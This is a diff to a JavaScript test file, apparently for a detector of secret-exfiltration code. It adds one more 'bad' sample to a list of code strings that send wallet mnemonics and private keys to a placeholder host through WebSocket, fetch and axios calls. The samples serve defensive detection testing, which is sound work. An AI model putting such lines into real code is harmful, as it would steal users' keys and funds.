@@ -21,6 +21,7 @@ test('bad: requests whose options say where they go, and their bodies', () => {
     'const w = new WebSocket("wss://c.example.invalid"); exports.open = (mnemonic) => w.send(JSON.stringify({ mnemonic }))',
     `class Tell { constructor() { this.all = [] } add(key) { this.all.push(key) } send() { fetch("${TO}", { method: "POST", body: JSON.stringify(this.all) }) } } const t = new Tell(); t.add(privateKey)`,
     `require("axios")({ method: "post", url: "${TO}", data: { k: privateKey } })`,
+    'let to = "https://c.example.invalid"; to += "/" + path; fetch(to, { method: "POST", body: JSON.stringify({ privateKey }) })',
   ]);
 });
 
